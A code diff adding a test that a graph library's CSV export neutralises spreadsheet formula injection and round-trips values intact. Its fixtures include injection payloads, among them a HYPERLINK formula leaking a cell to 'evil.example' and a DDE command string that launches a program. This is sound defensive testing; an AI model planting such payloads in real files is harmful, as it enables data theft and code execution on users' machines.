@@ -4,7 +4,8 @@ import { cypherString } from '../../src/export/cypher.js';
 import { ingestDocument } from '../../src/ingest/ingest.js';
 import { seed } from '../graphql/harness.js';
 import { testStores } from '../support/stores.js';
-import { readCsv, readGexf, readGraphml, sorted } from './parse-back.js';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { csvRows, readCsv, readGexf, readGraphml, sorted } from './parse-back.js';
 import { DENIAL_QUOTE, disagreeingFollowUp } from './disagreeing-follow-up.js';
 import { TRICKY, trickyGraph } from './tricky-graph.js';
 
@@ -23,6 +24,27 @@ describe('export formats read back by independent parsers', () => {
     for (const [format, back] of Object.entries(roundTrips(trickyGraph))) {
       expect(back, format).toEqual(sorted(trickyGraph));
     }
+  });
+
+  it('neutralise CSV cells a spreadsheet would run as formulas (OWASP), and the values come back whole', () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already quoted once", '-5'];
+    const node = trickyGraph.nodes[0];
+    const graph: ExportGraph = {
+      nodes: formulas.map((name, i) => ({ ...node, id: `person:f${i}`, name, aliases: [name], roles: [name] })),
+      edges: [{ ...trickyGraph.edges[1], source: 'person:f0', target: 'person:f1', role: '=cmd|\' /C calc\'!A0' }],
+    };
+    const nodesCsv = EXPORT_FORMATS['csv-nodes'].render(graph);
+    const edgesCsv = EXPORT_FORMATS['csv-edges'].render(graph);
+    // what a spreadsheet sees: no cell begins with a formula character, each such one with a single quote
+    const cells = [nodesCsv, edgesCsv].flatMap((csv) => (parseCsv(csv, { record_delimiter: '\r\n' }) as string[][]).flat());
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    const names = (parseCsv(nodesCsv, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>).map((r) => r.name);
+    expect(names).toEqual(formulas.map((f) => `'${f}`));
+    // a semicolon, a separator to some spreadsheets, is quoted, so ";=" never starts a cell of its own
+    expect(EXPORT_FORMATS['csv-nodes'].render({ nodes: [{ ...node, name: 'a;=1+1' }], edges: [] })).toContain('"a;=1+1"');
+    // the one quote comes off again (README, Exports): every value round-trips, negative numbers included
+    expect(csvRows(nodesCsv).map((r) => r.name)).toEqual(formulas);
+    expect(readCsv(nodesCsv, edgesCsv)).toEqual(sorted(graph));
   });
 
   it('write Cypher string literals that cannot be broken out of', () => {
